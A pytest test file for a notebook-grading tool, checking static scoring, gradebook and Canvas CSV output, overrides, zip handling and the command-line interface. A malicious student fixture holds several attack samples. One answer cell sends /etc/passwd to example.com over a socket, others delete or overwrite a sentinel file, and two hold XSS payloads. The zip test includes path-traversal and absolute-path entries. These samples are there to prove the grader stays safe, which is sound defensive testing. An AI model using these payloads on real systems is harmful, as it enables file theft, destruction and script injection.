"""Grading exercise notebooks: fake classes built from the student notebook, graded without running code."""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from kit.exercises import check, check_answer, load_keys
from kit.grading import GradingError, _fmt, grade, grade_command, safe_extract

ROOT = Path(__file__).resolve().parent.parent
NAME = "01_quotes_and_framing"
STUDENT_NB = ROOT / "exercises" / f"{NAME}.ipynb"
SOURCE_NB = ROOT / "exercises" / "source" / f"{NAME}.ipynb"
KEYFILE = ROOT / "exercises" / "keys" / f"{NAME}.json"

PERFECT = {
    "q1": "2",
    "q2": "7",
    "q3": '["Bold", "slams", "unshakable"]',
    "q4": "9",
    "q5": '"Rutte says NATO must protect allied territory and help Ukraine"',
    "q6": '"Rutte says Kallas\'s position on peace talks is different"',
}
PARTLY = {
    "q1": "1",  # wrong option
    "q2": "7",  # right
    "q3": '["bold", "slams", "Kallas"]',  # 2 right, 1 wrong: 1 of 3 points
    "q4": "10",  # within the tolerance
    "q5": '"Rutte slams Ukraine aid critics"',  # names him, short, but loaded: the loaded word also pulls fidelity under 0.7: 2 of 5
    "q6": '"Kallas position on peace talks is different, says NATO chief"',  # no speaker name: 4 of 5
}
SCORES = {  # student -> (points per question, total, status)
    "alice_perfect": ([1, 1, 3, 1, 5, 5], 16, "ok"),
    "bob_empty": ([0, 0, 0, 0, 0, 0], 0, "ok"),
    "carol_partly": ([0, 1, 1, 1, 2, 4], 9, "ok"),
    "dan_malicious": ([1, 1, 0, 0, 0, 0], 2, "not a literal"),
    "erin_corrupt": ([None] * 6, 0, "corrupt notebook"),
    "fay_v3": ([1, 1, 3, 1, 5, 5], 16, "ok"),
    "gus_v2": ([None] * 6, 0, "old nbformat"),
    "hana_duplicate_cell": ([1, 0, 0, 0, 0, 0], 1, "duplicate answer cell"),
    "ivan_deleted_cell": ([1, 1, 0, 1, 5, 5], 13, "missing answer cell"),
    "jo_no_metadata": ([1, 1, 3, 1, 5, 5], 16, "ok"),
    "kim": ([None] * 6, 0, "duplicate files"),
    "lee": ([None] * 6, 0, "wrong file type"),
}


def student_notebook() -> dict:
    return json.loads(STUDENT_NB.read_text(encoding="utf-8"))


def answer_cell(nb: dict, qid: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == qid)


def filled(answers: dict[str, str], nb: dict | None = None) -> dict:
    nb = copy.deepcopy(nb or student_notebook())
    for qid, literal in answers.items():
        answer_cell(nb, qid)["source"] = f"answer_{qid} = {literal}"
    return nb


def write(path: Path, nb: dict) -> Path:
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def v3_notebook(answers: dict[str, str]) -> dict:
    cells = [{"cell_type": "markdown", "metadata": {}, "source": "# Old notebook"}]
    cells += [
        {"cell_type": "code", "collapsed": False, "input": f"answer_{q} = {v}", "language": "python", "metadata": {}, "outputs": []}
        for q, v in answers.items()
    ]
    return {"metadata": {"name": "old"}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells, "metadata": {}}]}


def build_class(folder: Path, sentinel: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    write(folder / "alice_perfect.ipynb", filled(PERFECT))
    write(folder / "bob_empty.ipynb", student_notebook())
    write(folder / "carol_partly.ipynb", filled(PARTLY))
    evil = filled(PERFECT)
    answer_cell(evil, "q1")["source"] = f"import os; os.remove({str(sentinel)!r})\nanswer_q1 = 2"
    answer_cell(evil, "q2")["source"] = (
        "import socket\nsocket.create_connection(('example.com', 80)).send(open('/etc/passwd','rb').read())\nanswer_q2 = 7"
    )
    answer_cell(evil, "q3")["source"] = f"answer_q3 = __import__('os').remove({str(sentinel)!r})"
    answer_cell(evil, "q4")["source"] = f"answer_q4 = open({str(sentinel)!r}, 'w').write('pwned')"
    answer_cell(evil, "q5")["source"] = 'answer_q5 = "<script>alert(1)</script>"'
    answer_cell(evil, "q6")["source"] = "answer_q6 = '<img src=x onerror=alert(2)>'"
    write(folder / "dan_malicious.ipynb", evil)
    (folder / "erin_corrupt.ipynb").write_text('{"cells": [', encoding="utf-8")
    write(folder / "fay_v3.ipynb", v3_notebook(PERFECT))
    write(folder / "gus_v2.ipynb", {"nbformat": 2, "worksheets": []})
    dup = filled({"q1": "1"})
    cells = dup["cells"]
    index = cells.index(answer_cell(dup, "q1"))
    second = copy.deepcopy(cells[index])
    second["source"] = "answer_q1 = 2"
    cells.insert(index + 1, second)
    write(folder / "hana_duplicate_cell.ipynb", dup)
    deleted = filled(PERFECT)
    deleted["cells"].remove(answer_cell(deleted, "q3"))
    write(folder / "ivan_deleted_cell.ipynb", deleted)
    bare = filled(PERFECT)
    for cell in bare["cells"]:
        cell["metadata"] = {}
    write(folder / "jo_no_metadata.ipynb", bare)
    write(folder / "kim.ipynb", filled(PERFECT))
    write(folder / "KIM.ipynb", filled(PARTLY))
    (folder / "lee.txt").write_text("my answers: 2, 7, 9", encoding="utf-8")
    return folder


@pytest.fixture()
def klass(tmp_path):
    sentinel = tmp_path / "sentinel.txt"
    sentinel.write_text("still here", encoding="utf-8")
    folder = build_class(tmp_path / "class", sentinel)
    return folder, sentinel


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def fmt(value) -> str:
    return "" if value is None else str(value)


def test_class_scores_statuses_and_no_code_run(klass, tmp_path, monkeypatch):
    folder, sentinel = klass
    monkeypatch.chdir(tmp_path)
    import socket

    def no_network(*args, **kwargs):
        raise AssertionError("grading opened a network connection")

    monkeypatch.setattr(socket, "create_connection", no_network)
    result = grade(NAME, folder, out=tmp_path / "gradebook.csv", feedback_dir=tmp_path / "feedback", canvas=tmp_path / "canvas.csv")
    assert sentinel.read_text(encoding="utf-8") == "still here"
    assert not (tmp_path / "x").exists()
    rows = {r["student"]: r for r in read_csv(tmp_path / "gradebook.csv")}
    assert set(rows) == set(SCORES)
    for student, (points, total, status) in SCORES.items():
        row = rows[student]
        assert [row[q] for q in ("q1", "q2", "q3", "q4", "q5", "q6")] == [fmt(p) for p in points], student
        assert row["total"] == str(total), student
        assert row["max"] == "16"
        assert row["status"] == status, (student, row["reason"])
    assert "converted from nbformat 3" in rows["fay_v3"]["reason"]
    assert "KIM.ipynb" in rows["kim"]["reason"] and "kim.ipynb" in rows["kim"]["reason"]
    assert "lee.txt" in rows["lee"]["reason"]
    assert "q3" in rows["ivan_deleted_cell"]["reason"]
    assert "computed" in rows["dan_malicious"]["reason"]
    assert result.student("alice_perfect").total == 16
    page = (tmp_path / "feedback" / "dan_malicious.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>" not in page and "<img" not in page
    assert "Need a look" in result.summary and "erin_corrupt: corrupt notebook" in result.summary
    assert "Class mean:" in result.summary


def test_grading_twice_gives_identical_files(klass, tmp_path):
    folder, _ = klass
    outputs = []
    for _ in range(2):
        grade(NAME, folder, out=tmp_path / "g.csv", feedback_dir=tmp_path / "fb", canvas=tmp_path / "c.csv")
        files = [tmp_path / "g.csv", tmp_path / "c.csv", *sorted((tmp_path / "fb").iterdir())]
        outputs.append({p.name: p.read_bytes() for p in files})
    assert outputs[0] == outputs[1]
    assert not [p for p in tmp_path.rglob("*.tmp")]


def test_canvas_csv(klass, tmp_path):
    folder, _ = klass
    grade(NAME, folder, canvas=tmp_path / "canvas.csv")
    lines = (tmp_path / "canvas.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0] == f"Student,ID,SIS User ID,SIS Login ID,Section,{NAME} (16)"
    rows = {r["Student"]: r for r in read_csv(tmp_path / "canvas.csv")}
    assert rows["alice_perfect"][f"{NAME} (16)"] == "16"
    assert rows["erin_corrupt"][f"{NAME} (16)"] == ""  # nothing posted for an unreadable file


def test_overrides_survive_regrade(klass, tmp_path):
    folder, _ = klass
    overrides = tmp_path / "overrides.csv"
    overrides.write_text("student,question,points,reason\ncarol_partly,q5,5,slams is fair here\nerin_corrupt,q1,1,graded by hand\n", encoding="utf-8")
    for _ in range(2):
        result = grade(NAME, folder, out=tmp_path / "g.csv", overrides=overrides)
        rows = {r["student"]: r for r in read_csv(tmp_path / "g.csv")}
        assert rows["carol_partly"]["q5"] == "5" and rows["carol_partly"]["total"] == "12"
        assert "override q5: 5 (slams is fair here)" in rows["carol_partly"]["reason"]
        assert rows["erin_corrupt"]["q1"] == "1" and rows["erin_corrupt"]["total"] == "1"
    assert result.student("carol_partly").total == 12
    overrides.write_text("student,question,points,reason\ncarol_partly,q5,9,too many\n", encoding="utf-8")
    with pytest.raises(GradingError, match="0 to 5 points"):
        grade(NAME, folder, overrides=overrides)


def test_nbgrader_layout_and_assignment_as_notebook(tmp_path):
    root = tmp_path / "course" / "submitted"
    for student, answers in (("alice", PERFECT), ("carol", PARTLY)):
        target = root / student / NAME
        target.mkdir(parents=True)
        write(target / f"{NAME}.ipynb", filled(answers))
    (root / "bob" / NAME).mkdir(parents=True)
    write(root / "bob" / NAME / "Untitled.ipynb", filled(PERFECT))
    write(root / "bob" / NAME / "copy.ipynb", filled(PERFECT))
    for assignment in (NAME, STUDENT_NB, SOURCE_NB):
        result = grade(str(assignment), tmp_path / "course")
        totals = {r.student: (r.total, r.status) for r in result.students}
        assert totals == {"alice": (16, "ok"), "bob": (0, "duplicate files"), "carol": (9, "ok")}, assignment


def test_zip_input_and_unsafe_entries(tmp_path):
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("class/alice.ipynb", json.dumps(filled(PERFECT)))
        zf.writestr("class/carol.ipynb", json.dumps(filled(PARTLY)))
        zf.writestr("../evil.txt", "escaped")
        zf.writestr("/abs.txt", "absolute")
        zf.writestr("class/../../evil2.txt", "escaped")
    abs_before = Path("/abs.txt").exists()
    result = grade(NAME, archive)
    assert {r.student: r.total for r in result.students} == {"alice": 16, "carol": 9}
    assert sorted(result.skipped) == ["../evil.txt", "/abs.txt", "class/../../evil2.txt"]
    assert "Skipped zip entries" in result.summary
    target = tmp_path / "deep" / "target"
    target.mkdir(parents=True)
    skipped = safe_extract(archive, target)
    assert len(skipped) == 3
    assert not (tmp_path / "deep" / "evil.txt").exists() and not (tmp_path / "evil.txt").exists()
    assert not (tmp_path / "evil2.txt").exists() and not (tmp_path / "deep" / "evil2.txt").exists()
    assert Path("/abs.txt").exists() == abs_before
    assert (target / "class" / "alice.ipynb").exists()


def test_zip_limits(tmp_path, monkeypatch):
    import kit.grading as grading

    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for n in range(6):
            zf.writestr(f"s{n}.ipynb", "{}")
    monkeypatch.setattr(grading, "MAX_ZIP_FILES", 5)
    with pytest.raises(GradingError, match="entries"):
        grade(NAME, archive)
    monkeypatch.setattr(grading, "MAX_ZIP_FILES", 5000)
    monkeypatch.setattr(grading, "MAX_ZIP_BYTES", 5)
    with pytest.raises(GradingError, match="200 MB"):
        grade(NAME, archive)


def test_check_feedback_right_wrong_partial(capsys):
    right = check_answer("q3", ["bold", "SLAMS", "unshakable!"], NAME)
    assert right.status == "right" and right.points == 3
    partial = check_answer("q3", ["bold", "Kallas"], NAME)
    assert partial.status == "wrong" and partial.points == 0
    assert "1 of 3 right" in partial.feedback and "'kallas' is not one of the loaded words here." in partial.details
    partial = check_answer("q3", ["bold", "slams"], NAME)
    assert partial.status == "partial" and partial.points == 2 and "2 of 3 right" in partial.feedback
    wrong = check_answer("q1", 4, NAME)
    assert wrong.status == "wrong" and "paragraphs" in wrong.feedback and "Hint:" in wrong.feedback
    assert check_answer("q1", 7, NAME).status == "invalid"
    assert check_answer("q4", 8.6, NAME).status == "right" and check_answer("q4", 11, NAME).status == "wrong"
    assert "percent" in check_answer("q4", 0.09, NAME).feedback
    open_task = check_answer("q5", "Rutte slams Ukraine aid critics", NAME)
    assert open_task.status == "partial" and open_task.points == 2 and len(open_task.details) == 4
    assert "'slams'" in open_task.details[1]
    assert check_answer("q5", "<script>alert(1)</script>", NAME).points == 0
    check("q2", 7, NAME)
    assert capsys.readouterr().out.startswith("q2: 1 of 1 points. Right")


def test_key_text_is_not_in_student_notebook_or_keyfile():
    student = STUDENT_NB.read_text(encoding="utf-8")
    keyfile = KEYFILE.read_text(encoding="utf-8").lower()
    for qid, literal in PERFECT.items():
        assert f"answer_{qid} = {literal}" not in student
    assert "BEGIN SOLUTION" not in student
    nb = json.loads(student)
    assert all("kit" not in cell["metadata"] for cell in nb["cells"])  # no per-option feedback or types
    for secret in ("unshakable", "slams", "bold", "must protect allied territory", "kallas's position"):
        assert secret not in keyfile
    keys = load_keys(KEYFILE)
    assert all("hashes" in q or "rubric" in q for q in keys["questions"].values())


def test_make_student_versions_check_passes():
    proc = subprocess.run([sys.executable, str(ROOT / "tools" / "make_student_versions.py"), "--check"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr


def test_make_student_versions_check_detects_drift(tmp_path):
    exercises = tmp_path / "exercises"
    (exercises / "source").mkdir(parents=True)
    (exercises / "keys").mkdir()
    (exercises / "source" / SOURCE_NB.name).write_bytes(SOURCE_NB.read_bytes())
    (exercises / "keys" / KEYFILE.name).write_bytes(KEYFILE.read_bytes())
    (exercises / STUDENT_NB.name).write_text(STUDENT_NB.read_text(encoding="utf-8").replace("Exercise 1", "Exercise one"), encoding="utf-8")
    tool = str(ROOT / "tools" / "make_student_versions.py")
    proc = subprocess.run([sys.executable, tool, "--check", "--exercises", str(exercises)], capture_output=True, text=True)
    assert proc.returncode == 1 and STUDENT_NB.name in proc.stderr
    subprocess.run([sys.executable, tool, "--exercises", str(exercises)], check=True, capture_output=True)
    assert (exercises / STUDENT_NB.name).read_bytes() == STUDENT_NB.read_bytes()


def test_grade_command(klass, tmp_path, capsys):
    folder, _ = klass
    assert grade_command([NAME, str(folder), "--out", str(tmp_path / "g.csv")]) == 0
    out = capsys.readouterr().out
    assert "Class mean:" in out and "Question difficulty" in out and (tmp_path / "g.csv").exists()
    for argv, message in (
        ([NAME, str(folder), "--timeout", "5"], "--timeout only applies with --execute"),
        ([NAME, str(folder), "--execute", "--timeout", "0"], "--timeout must be a positive number"),
        ([NAME, str(tmp_path / "missing")], "no such folder"),
        (["99_nothing", str(folder)], "no answer key"),
        ([NAME], "required"),
    ):
        assert grade_command(argv) == 2
        err = capsys.readouterr().err
        assert message in err and err.count("\n") == 1 and "Traceback" not in err


def test_two_hundred_submissions(tmp_path):
    """A whole class folder at once (how fast: `make bench`)."""
    folder = tmp_path / "big"
    folder.mkdir()
    texts = [json.dumps(filled(PERFECT)), json.dumps(filled(PARTLY)), json.dumps(student_notebook())]
    for n in range(200):
        (folder / f"s{n:03}.ipynb").write_text(texts[n % 3], encoding="utf-8")
    result = grade(NAME, folder, out=tmp_path / "g.csv", feedback_dir=tmp_path / "fb", canvas=tmp_path / "c.csv")
    assert len(result.students) == 200 and result.student("s000").total == 16 and result.student("s001").total == 9


@pytest.mark.slow
def test_execute_runs_each_notebook_separately_with_a_time_limit(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "class"
    folder.mkdir()
    good = filled(PERFECT)
    answer_cell(good, "q1")["source"] = "open('pwned.txt', 'w').write('pwned')\nanswer_q1 = 2"
    write(folder / "alice_good.ipynb", good)
    raises = filled(PARTLY)
    raises["cells"][3]["source"] = "print(undefined_name)"  # the 4th cell, after the setup cell
    write(folder / "bob_raises.ipynb", raises)
    sleepy = filled(PERFECT)
    sleepy["cells"][3]["source"] = "import time; time.sleep(30)"
    write(folder / "cy_sleeps.ipynb", sleepy)
    static = {r.student: (r.points, r.total) for r in grade(NAME, folder).students}
    assert static["alice_good"][1] == 16 and static["bob_raises"][1] == 9

    start = time.perf_counter()
    # (10 s: a busy 2-core machine can take several seconds just to start a kernel)
    assert grade_command([NAME, str(folder), "--execute", "--timeout", "10", "--out", str(tmp_path / "g.csv")]) == 0
    elapsed = time.perf_counter() - start
    assert elapsed < 60, elapsed
    out = capsys.readouterr().out
    assert "Executed 3 notebooks" in out and "not a sandbox" in out
    rows = {r["student"]: r for r in read_csv(tmp_path / "g.csv")}
    assert rows["alice_good"]["status"] == "ok" and rows["alice_good"]["reason"] == ""
    assert rows["bob_raises"]["status"] == "execution failed"
    assert rows["bob_raises"]["reason"] == "execution failed: NameError in cell 4"
    assert rows["cy_sleeps"]["status"] == "execution timed out"
    assert rows["cy_sleeps"]["reason"] == "execution timed out after 10 s"
    for student, (points, total) in static.items():  # execution never changes the scores
        assert [rows[student][q] for q in points] == [_fmt(p) for p in points.values()], student
        assert rows[student]["total"] == _fmt(total), student
    result = grade(NAME, folder, execute=True, timeout=5)
    assert {r.student: (r.points, r.total) for r in result.students} == static
    for place in (folder, ROOT, tmp_path):
        assert not (place / "pwned.txt").exists(), place
    assert sorted(p.name for p in folder.iterdir()) == ["alice_good.ipynb", "bob_raises.ipynb", "cy_sleeps.ipynb"]
